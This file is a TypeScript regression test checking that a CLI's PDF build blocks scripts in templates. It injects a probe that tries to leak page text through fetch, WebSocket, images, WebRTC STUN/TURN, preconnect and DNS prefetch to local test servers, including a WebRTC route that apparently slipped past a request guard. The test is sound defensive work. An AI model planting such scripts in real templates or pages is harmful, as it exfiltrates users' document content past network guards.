import { spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createSocket, type Socket } from 'node:dgram';
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import puppeteer from 'puppeteer-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { BIN, ROOT } from '../helpers/cli.js';
import { CHROMIUM } from './helpers.js';

/**
 * Issue 16: a <script> in a template's layout ran while printing and reached a server on the
 * machine through WebRTC (STUN over UDP), past the request guard. A UDP and a TCP server listen
 * on 127.0.0.1; the layout's script tries fetch, WebSocket, WebRTC STUN and TURN, an image, and
 * the markup a preconnect and a DNS prefetch. The real `studyplan build` prints it with real
 * Chromium: the servers receive nothing. The control opens the same HTML in a plain browser and
 * the servers do hear it, so the silence is not a broken probe.
 */
let dir: string;
let tcp: Server;
let udp: Socket;
const heard: string[] = [];
let build: { code: number | null; stdout: string; stderr: string };

const probe = (tcpPort: number, udpPort: number) => `
<link rel="preconnect" href="http://127.0.0.1:${tcpPort}/">
<link rel="dns-prefetch" href="//probe.example">
<script>
(async () => {
  const text = encodeURIComponent(document.body ? document.body.innerText.slice(0, 80) : 'x');
  try { fetch('http://127.0.0.1:${tcpPort}/fetch?' + text, { mode: 'no-cors' }).catch(() => {}); } catch (e) {}
  try { new WebSocket('ws://127.0.0.1:${tcpPort}/ws'); } catch (e) {}
  try { const i = new Image(); i.src = 'http://127.0.0.1:${tcpPort}/img?' + text; } catch (e) {}
  for (const urls of ['stun:127.0.0.1:${udpPort}', 'turn:127.0.0.1:${tcpPort}?transport=tcp']) {
    try {
      const pc = new RTCPeerConnection({ iceServers: [{ urls, username: 'u', credential: 'p' }] });
      pc.createDataChannel(text);
      await pc.setLocalDescription(await pc.createOffer());
    } catch (e) {}
  }
})();
</script>
`;

const listening = () => new Promise((resolve) => setTimeout(resolve, 1_500));

beforeAll(async () => {
  tcp = createServer((s) => {
    heard.push('tcp');
    s.on('error', () => undefined);
    s.destroy();
  });
  await new Promise<void>((resolve) => tcp.listen(0, '127.0.0.1', resolve));
  udp = createSocket('udp4');
  udp.on('message', () => heard.push('udp'));
  await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
  const tcpPort = (tcp.address() as AddressInfo).port;
  const udpPort = udp.address().port;

  dir = mkdtempSync(path.join(tmpdir(), 'studyplan-noscript-'));
  mkdirSync(path.join(dir, 'plans'));
  cpSync(path.join(ROOT, 'tests/fixtures/valid/minimal.yaml'), path.join(dir, 'plans/plan.yaml'));
  cpSync(path.join(ROOT, 'templates/booklet'), path.join(dir, 'tpl'), { recursive: true });
  const layout = path.join(dir, 'tpl/layout.hbs');
  writeFileSync(
    layout,
    readFileSync(layout, 'utf8')
      .replace('</head>', `${probe(tcpPort, udpPort)}</head>`)
      .replace('</body>', `<script>document.body.append('SCRIPT RAN')</script></body>`),
  );
  const r = spawnSync(process.execPath, [BIN, 'build', '--chrome', CHROMIUM, '--template', 'tpl', '--format', 'pdf'], {
    cwd: dir,
    encoding: 'utf8',
    env: { ...process.env, NO_COLOR: '1' },
    timeout: 120_000,
  });
  build = { code: r.status, stdout: r.stdout, stderr: r.stderr };
  await listening();
}, 180_000);

afterAll(async () => {
  await new Promise<void>((resolve) => (tcp ? tcp.close(() => resolve()) : resolve()));
  udp?.close();
  if (dir) rmSync(dir, { recursive: true, force: true });
});

test('printing a layout whose script tries fetch, WebSocket, WebRTC (STUN/TURN), img, preconnect: the servers hear nothing', () => {
  expect(build.code, `${build.stdout}\n${build.stderr}`).toBe(0);
  expect(heard).toEqual([]);
});

test('the script did not run while printing (the text it adds is not in the PDF; the contents are)', () => {
  const text = spawnSync('pdftotext', [path.join(dir, 'out/plan.pdf'), '-'], { encoding: 'utf8' }).stdout;
  expect(text).toContain('Studieplan 2022');
  expect(text).not.toContain('SCRIPT RAN');
});

test('control: the same HTML in a plain browser with script on does reach the servers', async () => {
  const browser = await puppeteer.launch({ executablePath: CHROMIUM, headless: true, args: ['--no-sandbox', '--disable-gpu'] });
  try {
    const page = await browser.newPage();
    await page.goto(pathToFileURL(path.join(dir, 'out/plan.html')).href, { waitUntil: 'load' });
    await listening();
    expect(await page.evaluate(() => document.body.innerText)).toContain('SCRIPT RAN');
  } finally {
    await browser.close();
  }
  expect(heard).toContain('udp');
  expect(heard).toContain('tcp');
}, 60_000);
